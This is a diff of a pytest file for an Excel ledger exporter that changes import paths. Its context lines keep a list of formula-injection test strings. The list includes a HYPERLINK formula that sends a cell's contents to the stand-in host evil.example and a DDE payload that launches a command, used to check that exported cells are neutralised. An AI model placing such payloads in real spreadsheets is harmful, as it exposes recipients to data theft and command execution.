@@ -7,7 +7,7 @@ import pytest
 from openpyxl import load_workbook
 
 from app.exports import DATE_COLUMNS, formula_like, write_ledger
-from stages.views import LEDGER_COLUMNS
+from stages.views.reads import LEDGER_COLUMNS
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
            "＝1+1", "＋1", "－1", "＠SUM(A1)", "  =1+1", "=cmd|' /C calc'!A0"]
@@ -54,8 +54,8 @@ def test_ledger_dates_are_excel_dates(tmp_path):
 
 
 def test_a_real_ledger_has_no_formula_and_real_dates(tmp_path, mini_run, mini):
-    from stages.services import propose
-    from stages.views import ledger_rows
+    from stages.engine import propose
+    from stages.views.reads import ledger_rows
 
     propose(mini_run, mini, dept="区商务委", title='=HYPERLINK("http://x"&A1,"点击查看")', as_of="2019-07-01")
     mini_run.commit()
